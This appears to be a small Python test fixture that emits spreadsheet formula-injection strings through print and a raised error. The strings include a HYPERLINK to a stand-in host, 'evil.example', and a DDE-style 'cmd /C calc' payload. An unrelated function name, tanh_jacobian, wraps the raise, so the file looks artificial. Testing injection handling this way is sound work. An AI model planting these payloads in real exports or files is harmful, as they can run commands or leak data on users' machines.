"""Writes messages and output that a spreadsheet would run as formulas.

status: error
"""

FORMULA = "=HYPERLINK(\"https://evil.example\",\"10\")\n+cmd|' /C calc'!A0\n@SUM(1+9)\n-2+3\n\t=1+1\r\n;\"quoted,\""
print(FORMULA)


def tanh_jacobian(h_prev, x, W_hh, W_xh, b):
    raise ValueError(FORMULA)
